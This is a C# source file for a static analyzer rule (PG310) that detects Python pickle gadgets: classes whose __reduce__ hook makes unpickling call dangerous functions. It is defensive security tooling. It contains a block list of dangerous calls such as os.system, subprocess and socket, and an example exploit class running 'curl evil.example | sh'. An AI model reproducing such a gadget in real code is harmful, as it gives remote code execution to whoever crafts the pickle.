using System.Collections.Frozen;
using System.Collections.Immutable;
using PyGuard.Analyzers.Common;
using PyGuard.Engine.Analysis;
using PyGuard.Engine.Model;
using PyGuard.Semantics.Values;
using PyGuard.Syntax.Tree;

namespace PyGuard.Analyzers.Escape;

/// <summary>PG310: a class whose pickling hook makes the unpickler call a dangerous function.</summary>
public sealed class PickleGadget : Analyzer
{
    private static readonly FrozenSet<string> Hooks = FrozenSet.ToFrozenSet(["__reduce__", "__reduce_ex__"], StringComparer.Ordinal);

    private static readonly string[] DangerousPrefixes =
    [
        "os.system", "os.popen", "os.exec", "os.spawn", "os.remove", "os.unlink", "os.kill", "subprocess.",
        "builtins.eval", "builtins.exec", "builtins.compile", "builtins.__import__", "builtins.open", "builtins.getattr",
        "shutil.rmtree", "pty.spawn", "socket.", "importlib.import_module", "runpy.", "ctypes.",
    ];

    public static readonly RuleDescriptor Descriptor = Rule.Define(
        "PG310", "Pickle gadget", "{0}.{1} makes unpickling call {2}",
        RuleCategory.Escape, Severity.Error, Confidence.High, 9.0, [502, 94],
        whatItDoes: "Reports classes whose `__reduce__` or `__reduce_ex__` returns a callable that runs commands, evaluates code, imports modules, opens files or deletes them (for example `(os.system, ('id',))`).",
        why: "Whoever unpickles an instance of such a class calls that function with those arguments. Defining one is how malicious pickles are made; there is no benign reason to make unpickling run a shell.",
        example: "class Exploit:\n    def __reduce__(self):\n        return (os.system, ('curl evil.example | sh',))",
        instead: "Return a constructor of the class itself and plain data, or use `__getstate__`/`__setstate__`.",
        safeExample: "class Point:\n    def __reduce__(self):\n        return (Point, (self.x, self.y))");

    public override ImmutableArray<RuleDescriptor> SupportedRules { get; } = [Descriptor];

    public override void Initialize(AnalysisRegistration registration) =>
        registration.RegisterNodeAction(Analyze, NodeKind.StmtClassDef);

    private static void Analyze(NodeContext context)
    {
        var cls = (StmtClassDef)context.Node;
        foreach (var statement in cls.Body)
        {
            if (statement is not StmtFunctionDef method || !Hooks.Contains(method.Name))
            {
                continue;
            }

            foreach (var returned in context.Model.ReturnValueOf(method).Items)
            {
                var callable = returned switch
                {
                    ContainerValue { Items.Length: >= 2 } tuple => tuple.Items[0],
                    _ => ValueSet.Empty,
                };
                var dangerous = callable.QualifiedNames.FirstOrDefault(n => DangerousPrefixes.Any(p => n.StartsWith(p, StringComparison.Ordinal)));
                if (dangerous is not null)
                {
                    context.Report(Descriptor, method, cls.Name, method.Name, dangerous);
                    return;
                }
            }
        }
    }
}
